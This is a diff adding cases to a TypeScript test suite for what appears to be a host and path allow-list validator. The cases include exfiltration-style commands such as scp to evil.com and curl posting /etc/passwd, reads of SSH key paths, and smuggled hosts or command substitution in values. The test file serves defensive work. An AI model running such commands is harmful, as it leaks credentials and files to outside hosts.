@@ -24,6 +24,9 @@ describe('hosts', () => {
     'http://[2001:DB8:0::1]/',
     'curl -s -o out.evil good.com:443/x',
     'nc good.com 80',
+    'git add main.ts && git diff README.md',
+    'scp notes.md jo@good.com:/tmp',
+    'rsync -a a.txt good.com:x',
     'constructor://good.com/ and __proto__://x',
     'javascript:alert(1), report.md, src/a.ts, 10:30, jo@evil.com',
   ])('%s is within', (text) => expect(hostIn(text)).toBe(true))
@@ -36,7 +39,11 @@ describe('hosts', () => {
     'https://evilgood.com',
     'https://api.good.com',
     'https://good.com:8443',
+    'https://good.com:80',
     'http://localhost',
+    'scp notes.md evil.com:/tmp',
+    'curl --url=evil.com',
+    'curl --proxy=10.0.0.1:8080 https://good.com',
     'https:\\\\evil.com\\x',
     'http:/evil.com',
     'http:evil.com',
@@ -73,6 +80,10 @@ describe('hosts', () => {
     ['dbServer', '10.0.0.7:5432'],
     ['base_url', 'evil.com/v1'],
     ['url', 'evil.com:443'],
+    ['url', 'git@evil.com:x/y.git'],
+    ['website', 'evil.com'],
+    ['url', 'evil。com/x'],
+    ['server_ip', '10.0.0.7'],
   ])('the value of %s leads to a host without a scheme: %s', (key, text) => {
     expect([hostIn(text, key), hostIn(text)]).toEqual([false, true])
   })
@@ -119,7 +130,10 @@ describe('paths', () => {
     '~/other',
     '~root/x',
     '$HOME/x',
+    'cd $HOME && ls "${OLDPWD}"',
     '${HOME}/.ssh/id_rsa',
+    '/work/%TEMP%/x',
+    '/work/`id`/x',
     'cat </etc/passwd',
     'cat /work/a > /tmp/x',
     'curl -d @/etc/passwd good.com',
